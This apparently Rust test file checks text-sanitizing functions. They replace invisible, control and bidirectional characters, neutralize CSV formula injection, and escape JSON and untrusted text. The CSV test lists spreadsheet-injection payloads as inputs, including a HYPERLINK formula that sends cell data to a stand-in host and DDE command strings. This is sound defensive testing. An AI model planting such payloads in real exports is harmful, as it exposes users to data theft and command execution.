//! Cases in tables: each character that nobody sees, and each text that a spreadsheet would run.

use crate::{csv_field, json_escaped, line, lines, printable};

/// Texts, and what is shown of them on one line.
const SHOWN: &[(&str, &str, &str)] = &[
    ("plain", "Côte d'Ivoire", "Côte d'Ivoire"),
    ("other scripts", "غانا 加纳 ጋና ⵖⴰⵏⴰ ߜ߭ߊ߬ߣߊ߫", "غانا 加纳 ጋና ⵖⴰⵏⴰ ߜ߭ߊ߬ߣߊ߫"),
    ("marks that belong to a letter", "e\u{301}", "e\u{301}"),
    ("spaces that are seen", "1\u{a0}000\u{202f}F", "1\u{a0}000\u{202f}F"),
    ("an escape", "\u{1b}[31mred", "\u{fffd}[31mred"),
    ("controls", "a\0b\tc\rd\ne\u{7f}\u{85}", "a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}e\u{fffd}\u{fffd}"),
    (
        "another direction",
        "\u{202e}a\u{202c}\u{2066}b\u{2069}\u{61c}",
        "\u{fffd}a\u{fffd}\u{fffd}b\u{fffd}\u{fffd}",
    ),
    ("no width", "a\u{200b}\u{200d}\u{2060}\u{feff}b", "a\u{fffd}\u{fffd}\u{fffd}\u{fffd}b"),
    ("a soft hyphen", "a\u{ad}b", "a\u{fffd}b"),
    ("other line ends", "a\u{2028}b\u{2029}c", "a\u{fffd}b\u{fffd}c"),
    ("private use", "\u{e000}\u{f8ff}\u{100000}", "\u{fffd}\u{fffd}\u{fffd}"),
    ("unassigned", "\u{378}\u{ffff}\u{e0080}", "\u{fffd}\u{fffd}\u{fffd}"),
    ("tags", "\u{e0041}\u{e007f}", "\u{fffd}\u{fffd}"),
    (
        "letters and marks without ink",
        "\u{3164}\u{115f}\u{fe0f}\u{34f}\u{2800}",
        "\u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd}",
    ),
];

#[test]
fn what_nobody_sees_is_shown_as_a_replacement_character() {
    for (what, text, expected) in SHOWN {
        assert_eq!(line(text), *expected, "{what}");
        assert_eq!(line(&line(text)), *expected, "{what}: twice");
        assert_eq!(lines(&format!("{text}\nnext")).lines().last(), Some("next"), "{what}");
    }
}

#[test]
fn a_field_of_a_csv_is_text_to_a_spreadsheet() {
    for (text, expected) in [
        ("a b", "a b"),
        ("", ""),
        ("a,\"b\"", "\"a,\"\"b\"\"\""),
        ("=1+1", "'=1+1"),
        ("=HYPERLINK(\"http://evil.example/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
        ("+1+cmd|'/C calc'!A0", "'+1+cmd|'/C calc'!A0"),
        ("@SUM(1+1)*cmd|'/C'!A0", "'@SUM(1+1)*cmd|'/C'!A0"),
        ("-2+3", "'-2+3"),
        ("-10--1", "'-10--1"),
        ("\t=1", "'\u{fffd}=1"),
        ("\r=1", "'\u{fffd}=1"),
        ("\n=1", "'\u{fffd}=1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("+5", "'+5"),
        ("-", "'-"),
        ("-.5", "'-.5"),
        // Numbers stay numbers.
        ("-5", "-5"),
        ("-1234.50", "-1234.50"),
        ("-1e-7", "-1e-7"),
        ("-inf", "-inf"),
        ("1.5e21", "1.5e21"),
        // What stands inside is nobody's beginning.
        ("a=1", "a=1"),
        ("two\nlines", "two\u{fffd}lines"),
        ("\u{1b}[31mred\u{202e}", "\u{fffd}[31mred\u{fffd}"),
    ] {
        assert_eq!(csv_field(text), expected, "{text:?}");
    }
}

#[test]
fn a_json_text_keeps_its_values_and_shows_them() {
    for (json, expected) in [
        ("{\n  \"a\": \"b\"\n}", "{\n  \"a\": \"b\"\n}"),
        ("\"\u{202e}\"", r#""\u202e""#),
        ("\"\u{e0041}\u{85}é\"", r#""\udb40\udc41\u0085é""#),
        (r#""\u001b""#, r#""\u001b""#),
    ] {
        assert_eq!(json_escaped(json), expected);
    }
}

#[test]
fn a_strangers_text_is_escaped_and_cut() {
    assert_eq!(printable("a\u{1b}\u{202e}\n"), "a\\u{1b}\\u{202e}\\n");
    assert_eq!(printable(&"x".repeat(500)).len(), 120);
}
